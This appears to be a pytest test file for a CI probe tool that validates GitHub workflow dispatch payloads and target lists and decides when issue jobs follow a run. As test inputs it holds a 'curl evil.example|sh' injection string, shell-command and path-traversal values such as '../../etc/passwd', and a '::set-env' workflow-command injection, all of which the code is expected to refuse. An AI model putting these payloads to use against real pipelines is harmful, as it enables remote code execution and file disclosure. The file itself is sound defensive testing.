"""What a workflow was asked for is checked before anything is done, and what follows a run is decided."""

import json
import string
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from hokusai_probe import workflow
from hokusai_probe.cli import main
from hokusai_probe.history import folder
from hokusai_probe.history.condense import run_of
from hokusai_probe.history.index import Point
from hokusai_probe.history.runs import KeptCause, State, folder_of
from hokusai_probe.model import Hosts, Report, Target, Verdict, VerdictStatus

SHA = "0123456789abcdef0123456789abcdef01234567"
LIST = ("hokusai-development", "targets/staging.toml")
PLAIN = {
    "target": "hokusai-development",
    "name": "hokusai-development",
    "only": "",
    "trigger": "manual",
    "sha": "",
    "settle": "0",
    "every": "",
    "fail-on": "failure",
}


def asked(**inputs: str) -> workflow.Asked:
    """What inputs ask for; those that are not named are empty."""
    return workflow.asked(**{"target": "", "areas": "", "sha": "", "settle_s": "", **inputs})


def test_a_schedule_s_colour_says_whether_the_probe_did_its_work() -> None:
    """The run says when the next is due, and what fails on the platform does not make it red."""
    found = workflow.request(asked(), "schedule", LIST, every_s=3600)

    assert found.outputs() == {**PLAIN, "trigger": "schedule", "every": "3600", "fail-on": "trouble"}


def test_a_deployment_s_colour_says_whether_the_platform_is_well() -> None:
    """The commit that was deployed goes into the report, and the run waits for the rollout."""
    said = {"sha": SHA, "areas": "proxy, errors", "target": "targets/staging.toml"}
    event = json.dumps({"action": "infra-deployed", "client_payload": said, "sender": {"login": "x"}})
    found = workflow.request(workflow.announced(event), "repository_dispatch", LIST, every_s=3600)

    assert found.outputs() == {
        "target": "targets/staging.toml",
        "name": folder_of("targets/staging.toml"),
        "only": "proxy,errors",
        "trigger": "deploy",
        "sha": SHA,
        "settle": "600",
        "every": "",
        "fail-on": "failure",
    }


def test_a_caller_may_say_what_triggered_it() -> None:
    """A workflow that calls this one after its own deployment was started by a push."""
    found = workflow.request(asked(sha=SHA, settle_s="30"), "push", LIST, trigger="deploy")

    assert found.outputs() == {**PLAIN, "trigger": "deploy", "sha": SHA, "settle": "30"}


HOSTILE = '"; curl evil.example|sh; #'


@pytest.mark.parametrize(
    ("payload", "says"),
    [
        ({}, "client_payload.sha"),
        ({"sha": HOSTILE}, "the commit is not one"),
        ({"sha": SHA + "; touch x"}, "the commit is not one"),
        ({"sha": SHA[:-1] + "\n"}, "the commit is not one"),
        ({"sha": "A" * 40}, "the commit is not one"),
        ({"sha": "a" * 10_000_000}, "client_payload.sha is refused"),
        ({"sha": 7}, "client_payload.sha is refused"),
        ({"sha": SHA, "target": "../../etc/passwd"}, "the target is not on this repository's list"),
        ({"sha": SHA, "target": "https://evil.example"}, "the target is not on this repository's list"),
        ({"sha": SHA, "areas": f"proxy,{HOSTILE}"}, "an area that does not exist"),
        ({"sha": SHA, "areas": "--allow"}, "an area that does not exist"),
        ({"sha": SHA, "settle_s": 1e9}, "client_payload.settle_s is refused"),
        ({"sha": SHA, "settle_s": "NaN"}, "client_payload.settle_s is refused"),
        ({"sha": SHA, "allow": "disruptive"}, "client_payload is refused"),
        ([SHA], "client_payload is refused"),
    ],
    ids=lambda value: str(value)[:40],
)
def test_a_payload_that_means_something_else_is_refused(payload: object, says: str) -> None:
    """With a sentence that names the part and what is allowed, and never says what stood there."""
    with pytest.raises(workflow.RequestError) as refusal:
        workflow.request(
            workflow.announced(json.dumps({"client_payload": payload})), "repository_dispatch", LIST
        )

    assert says in str(refusal.value)
    assert "evil" not in str(refusal.value)
    assert len(str(refusal.value)) < 300


@pytest.mark.parametrize(
    "event", ["", "{}", "[]", "null", "{" * 50_000, '{"client_payload": null}'], ids=lambda text: text[:20]
)
def test_an_event_that_is_none_is_refused(event: str) -> None:
    """Also one that would exhaust a parser."""
    with pytest.raises(workflow.RequestError):
        workflow.announced(event)


TEXT = st.text(max_size=60) | st.sampled_from([*LIST, SHA, "proxy", "proxy,errors", "12", ""])


@given(TEXT, TEXT, TEXT, TEXT)
def test_what_goes_on_is_ours_to_the_last_word(target: str, areas: str, sha: str, settle: str) -> None:
    """Whatever is asked for: it is refused, or its outputs are lines of words that this repository knows."""
    try:
        request = workflow.asked(target=target, areas=areas, sha=sha, settle_s=settle)
        found = workflow.request(request, "workflow_dispatch", LIST)
    except workflow.RequestError:
        return
    assert found.target in LIST
    assert set(found.verified_sha) <= set(string.hexdigits.lower())
    assert set("".join(found.outputs().values())) <= set(string.ascii_letters + string.digits + "-_./,")


def test_a_list_of_targets_is_lines() -> None:
    """Comments and blank lines count for nothing; the first target is the default."""
    found = workflow.targets("# ours\n\nhokusai-development # the first\n  targets/staging.toml\n")

    assert found == LIST
    assert workflow.request(asked(), "push", found).target == "hokusai-development"


@pytest.mark.parametrize("text", ["", "# none\n", "one two\n", "ok\n--json=/etc/passwd\n", "ok\n\x1b[2J\n"])
def test_a_list_that_names_no_target_is_refused(text: str) -> None:
    """Also one with a line that would be an option, or two words."""
    with pytest.raises(workflow.RequestError):
        workflow.targets(text)


# --- what comes after -----------------------------------------------------------------------------------

NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)
WELL = State(checks={"pass": ("a",)})
ILL = State(checks={"fail": ("a",)})
OPEN = State(causes=(KeptCause(cause="c", component="gateway", priority="high", undecided=True),))
TOLD_NOTHING = State(checks={"error": ("a",)})


def hourly(*states: State, last: datetime = NOON) -> list[Point]:
    """Runs an hour apart, the last one at noon."""
    start = last - timedelta(hours=len(states) - 1)
    return [
        Point(str(i), start + timedelta(hours=i), "schedule", 3600, state) for i, state in enumerate(states)
    ]


@pytest.mark.parametrize(
    ("states", "why"),
    [
        ([WELL, WELL], ""),
        ([WELL, TOLD_NOTHING], ""),
        ([WELL, ILL], "something is wrong"),
        ([WELL, OPEN], "something is wrong"),
        ([ILL], "something is wrong"),
        ([WELL, ILL, ILL, ILL, ILL], "something is wrong"),
        ([WELL, ILL, ILL, ILL, ILL, ILL], ""),
        ([WELL, ILL, ILL, ILL, ILL, OPEN], "something is wrong"),
        ([ILL, WELL], "something was wrong lately"),
        ([ILL, WELL, WELL, WELL, WELL], "something was wrong lately"),
        ([ILL, WELL, WELL, WELL, WELL, WELL], ""),
        ([], "nothing is known yet"),
        ([WELL], "this is the first run of the day"),
    ],
)
def test_issues_are_looked_after_while_there_is_something_to_say(states: list[State], why: str) -> None:
    """As long as it takes to open or close one (2 runs here), and two tries in reserve; then it rests."""
    assert workflow.issues_need_a_look(hourly(*states), 2, 2) == why


@pytest.mark.parametrize(
    ("states", "jobs"),
    [
        ([WELL] * 744, 31),
        ([ILL] * 744, 31 + 4),
        ([WELL] * 12 + ([ILL] * 6 + [WELL] * 18) * 30 + [WELL] * 12, 31 + 30 * 8),
    ],
    ids=["healthy", "broken", "an outage of six hours each day"],
)
def test_a_month_needs_a_second_job_once_a_day_and_at_each_change(states: list[State], jobs: int) -> None:
    """Which is what keeps an hourly schedule within its budget, also while nobody mends what is broken."""
    runs = hourly(*states, last=datetime(2026, 3, 31, 23, 23, tzinfo=UTC))
    needed = [i for i in range(1, len(runs) + 1) if workflow.issues_need_a_look(runs[:i], 2, 2)]

    assert (len(runs), len(needed)) == (744, jobs)


# --- the commands ---------------------------------------------------------------------------------------


def call(*arguments: str, **environment: str) -> Result:
    """The command, in an environment that names no event but this."""
    clean = {"GITHUB_EVENT_NAME": None, "GITHUB_EVENT_PATH": None, "GITHUB_OUTPUT": None}
    return CliRunner().invoke(main, ["workflow", *arguments], env={**clean, **environment})


def test_outputs_are_handed_on_and_shown(tmp_path: Path) -> None:
    """Each is a line of the file that GitHub reads, after what stands there already."""
    (tmp_path / "list").write_text("hokusai-development\n", encoding="utf-8")
    out = tmp_path / "outputs"
    out.write_text("before=1\n", encoding="utf-8")
    result = call("request", "--targets", str(tmp_path / "list"), GITHUB_OUTPUT=str(out))
    lines = "".join(f"{name}={value}\n" for name, value in PLAIN.items())

    assert (result.exit_code, result.output) == (0, lines)
    assert out.read_text(encoding="utf-8") == "before=1\n" + lines


def dispatched(place: Path, payload: dict[str, object], *options: str) -> Result:
    """What the command makes of a dispatch, where two targets are allowed."""
    (place / "list").write_text("\n".join(LIST), encoding="utf-8")
    (place / "event.json").write_text(json.dumps({"client_payload": payload}), encoding="utf-8")
    return call(
        "request", "--targets", str(place / "list"), *options,
        GITHUB_EVENT_NAME="repository_dispatch", GITHUB_EVENT_PATH=str(place / "event.json"),
    )  # fmt: skip


def test_a_payload_says_what_the_caller_s_workflow_leaves_open(tmp_path: Path) -> None:
    """What that one says under `with:` stands; saying the same is no contradiction."""
    fixed = ("--target", LIST[1], "--areas", "proxy")
    result = dispatched(tmp_path, {"sha": SHA, "settle_s": 30, "areas": "proxy"}, *fixed)

    said = {"target": LIST[1], "name": folder_of(LIST[1]), "only": "proxy", "trigger": "deploy", "sha": SHA}
    lines = "".join(f"{name}={value}\n" for name, value in {**PLAIN, **said, "settle": "30"}.items())
    assert (result.exit_code, result.output) == (0, lines)


@pytest.mark.parametrize(
    ("payload", "option", "part"),
    [
        ({"target": LIST[0]}, ("--target", LIST[1]), "target"),
        ({"areas": "proxy,errors"}, ("--areas", "proxy"), "areas"),
        ({}, ("--sha", "f" * 40), "sha"),
        ({"settle_s": 30}, ("--settle", "0"), "settle_s"),
    ],
)
def test_a_payload_does_not_overrule_the_caller_s_workflow(
    tmp_path: Path, payload: dict[str, object], option: tuple[str, str], part: str
) -> None:
    """Whoever may send a dispatch does not decide what the repository has decided."""
    result = dispatched(tmp_path, {"sha": SHA, **payload}, *option)

    assert (result.exit_code, result.stdout) == (2, "")
    assert (
        f"client_payload.{part} is refused: the workflow that takes the dispatch says another"
        in result.stderr
    )


def test_without_a_list_there_is_one_target(tmp_path: Path) -> None:
    """The file that a run takes by itself."""
    result = call("request", "--targets", str(tmp_path / "none"))

    assert result.output.splitlines()[0] == "target=hokusai-probe.toml"


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b'{"client_payload": {"sha": "::set-env name=x::y"}}', "the commit is not one"),
        (b"\xff", "cannot be read"),
        (b" " * 1024 * 1025, "larger than"),
        (None, "cannot be read"),
    ],
    ids=["a workflow command", "no text", "a megabyte", "no file"],
)
def test_a_refused_request_hands_on_nothing(tmp_path: Path, content: bytes | None, says: str) -> None:
    """Exit code 2, one sentence, no output, no workflow command."""
    if content is not None:
        (tmp_path / "event.json").write_bytes(content)
    result = call(
        "request",
        GITHUB_EVENT_NAME="repository_dispatch", GITHUB_EVENT_PATH=str(tmp_path / "event.json"),
        GITHUB_OUTPUT=str(tmp_path / "outputs"),
    )  # fmt: skip

    assert (result.exit_code, result.stdout, "\n" in result.stderr.strip()) == (2, "", False)
    assert says in result.stderr
    assert "::" not in result.stderr
    assert not (tmp_path / "outputs").exists()


@pytest.mark.parametrize("every", ["0", "-1", "1e9", "soon", "1" * 20])
def test_an_interval_is_a_number_of_seconds(every: str) -> None:
    """Nothing else is one."""
    assert call("request", "--every", every).exit_code == 2


def kept(place: Path, status: VerdictStatus, interrupted: str | None = None) -> Result:
    """What the command says after a run with one verdict."""
    verdict = Verdict(
        check="c", title="t", area="proxy", component="gateway", hop="gateway", status=status, probe="p"
    )
    report = Report(
        target="t",
        configuration=Target(name="t", hosts=Hosts(registry="http://127.0.0.1:1")),
        started_at=NOON,
        duration_s=1.0,
        tool_version="0",
        interrupted=interrupted,
        verdicts=(verdict,),
    )
    (place / "report.json").write_text(report.to_json(), encoding="utf-8")
    folder.write(place / "history", run_of(report))
    return call("after", str(place / "report.json"), "--history", str(place / "history"))


@pytest.mark.parametrize(
    ("status", "said"), [("fail", "something is wrong"), ("pass", "this is the first run of the day")]
)
def test_after_a_run_it_is_said_whether_issues_need_a_look(
    tmp_path: Path, status: VerdictStatus, said: str
) -> None:
    """From the history that the run is in."""
    result = kept(tmp_path, status)

    assert (result.exit_code, result.output) == (0, f"issues: {said}\nissues=true\n")


def test_an_interrupted_run_changes_no_issue(tmp_path: Path) -> None:
    """It does not know all, so no job follows it."""
    result = kept(tmp_path, "fail", "SIGINT")

    assert (result.exit_code, result.output) == (0, "issues: nothing to look after\nissues=false\n")
